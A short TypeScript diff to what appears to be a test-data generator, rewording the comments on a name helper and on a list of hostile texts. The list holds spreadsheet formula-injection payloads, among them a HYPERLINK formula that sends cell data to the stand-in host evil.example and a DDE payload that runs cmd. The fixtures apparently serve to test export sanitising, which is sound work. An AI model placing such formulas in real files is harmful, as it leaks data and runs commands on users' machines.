@@ -24,7 +24,7 @@ export interface Person {
     id: string;
 }
 
-/** Latin letters, digits and dots: how names get into addresses. */
+/** A name in plain Latin letters, for email addresses and IDs. */
 const plainLetters = (name: string): string =>
     name
         .normalize('NFD')
@@ -48,7 +48,7 @@ export function makePerson(random: Random): Person {
     };
 }
 
-/** Names and order ids that try what a spreadsheet does with them. */
+/** Names and order IDs that try to run as spreadsheet formulas. */
 export const hostileTexts: readonly string[] = [
     '=HYPERLINK("https://evil.example/?q="&A1,"Click")',
     "+SUM(1+1)*cmd|' /C calc'!A0",
